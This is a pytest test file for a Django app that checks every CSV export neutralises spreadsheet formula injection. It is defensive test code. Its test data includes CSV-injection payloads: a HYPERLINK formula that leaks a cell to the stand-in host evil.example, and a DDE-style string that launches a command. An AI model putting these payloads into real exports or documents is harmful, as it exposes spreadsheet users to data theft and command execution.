"""Every CSV the app writes opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

import purposeful
from purposeful.core import csvfile
from purposeful.feedback.models import Signal, Tag
from purposeful.outreach.models import SitePage, SiteReview
from purposeful.relationships.models import Account, Contact, Conversation, Referral
from purposeful.targets import services as target_services
from tests import factories
from tests.offers.factories import published_offer

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = [LINK, SUM, "+1+1", "-2+3", "\t=1+1", "\r=1+1"]

# Every URL that answers with a CSV file, by name; a new one must be added here
# (and so is checked below) before this test passes.
CSV_ENDPOINTS = {
    "targets:dashboard_csv": [
        f"/dashboard/{name}.csv"
        for name in ("offers", "signals", "needs", "loop", "referrals", "lens")
    ],
    "outreach:site_review_csv": ["/site-reviews/{site_review}/report.csv"],
    "exchange:export": [
        f"/exchange/export/{kind}.csv"
        for kind in ("accounts", "contacts", "signals", "conversations")
    ],
}


def _patterns(resolvers, prefix=""):
    for entry in resolvers:
        if isinstance(entry, URLResolver):
            namespace = f"{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry.url_patterns, namespace)
        elif isinstance(entry, URLPattern):
            yield f"{prefix}{entry.name}", str(entry.pattern)


def test_every_url_that_can_answer_with_csv_is_checked_here():
    found = {
        name
        for name, route in _patterns(get_resolver().url_patterns)
        if re.search(r"\.csv$|\.<(\w+:)?fmt>$", route)
    }
    assert found == set(CSV_ENDPOINTS)


def test_only_the_shared_writer_writes_csv():
    package = Path(purposeful.__file__).parent
    writers = sorted(
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    )
    assert writers == ["core/csvfile.py"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value):
    assert csvfile.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Workshop", "", "a=b", "3", 3, -3, 2.5])
def test_ordinary_cells_are_written_unchanged(value):
    assert csvfile.cell(value) == value


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_plain_file_keeps_every_value_as_stored(value):
    written = csvfile.text(["a"], [[value]], for_spreadsheets=False)
    assert list(csv.reader(io.StringIO(written))) == [["a"], [value]]


def test_a_file_for_spreadsheets_starts_with_a_byte_order_mark():
    assert csvfile.text(["a"], [["é"]]).encode() == b"\xef\xbb\xbfa\r\n\xc3\xa9\r\n"
    assert "".join(csvfile.chunks(["a"], [["é"]], every=1)).startswith("\ufeffa")
    assert not csvfile.text(["a"], [], for_spreadsheets=False).startswith("\ufeff")


def test_separators_and_quotes_cannot_start_a_new_formula_cell():
    written = csvfile.text(["a"], [['x",=1+1'], ["x\n=1+1"], [["=1", "@2"]]])
    assert list(csv.reader(io.StringIO(written.removeprefix(csvfile.BOM)))) == [
        ["a"],
        ['x",=1+1'],
        ["x\n=1+1"],
        ["'=1, @2"],
    ]


def _seed(cast) -> dict[str, object]:
    """Records whose names, tags and file names a spreadsheet would run."""
    team = factories.team(LINK, members=[cast.owner])
    published_offer(team, cast.owner)
    account = Account.objects.create(name=SUM, team=team, notes="-2+3")
    contact = Contact.objects.create(account=account, name="+1+1", email="a@b.org")
    Conversation.objects.create(
        account=account, member=cast.owner, contact=contact, summary=LINK
    )
    signal = Signal.objects.create(team=team, kind="idea", words=LINK)
    signal.tags.add(Tag.objects.create(name=SUM))
    Referral.objects.create(account=account, ally_name=LINK, reason="closer")
    site_review = SiteReview.objects.create(name="site", created_by=cast.owner)
    SitePage.objects.create(
        site_review=site_review,
        path=f"site.zip/{LINK}.html",
        status=SitePage.Status.REJECTED,
        problem=SUM,
    )
    SitePage.objects.create(
        site_review=site_review,
        path=f"{SUM}.md",
        status=SitePage.Status.REVIEWED,
        findings=[
            {
                "id": "manipulation.urgency",
                "line": 1,
                "column": 1,
                "severity": "warning",
                "text": "-today only",
                "message": "=false urgency",
                "suggestion": "@say when it really ends",
            }
        ],
    )
    return {"site_review": site_review.pk}


def test_every_csv_file_escapes_names_tags_and_file_names(cast):
    values = _seed(cast)
    target_services.dashboard_settings_update(actor=cast.steward, is_public=True)
    member, visitor = Client(), Client()
    member.force_login(cast.owner)
    seen = set()
    for name, urls in CSV_ENDPOINTS.items():
        for url in urls:
            client = visitor if name == "targets:dashboard_csv" else member
            response = client.get(url.format(**values))
            assert response.status_code == 200, url
            assert response["Content-Type"].startswith("text/csv"), url
            body = b"".join(response) if response.streaming else response.content
            for row in csv.reader(io.StringIO(body.decode("utf-8"))):
                for cell in row:
                    assert not cell.startswith(csvfile.FORMULA_STARTS), (url, cell)
                    seen.add(cell)
    for value in (LINK, SUM):
        assert "'" + value in seen
    assert f"'{SUM}.md" in seen and "'-today only" in seen
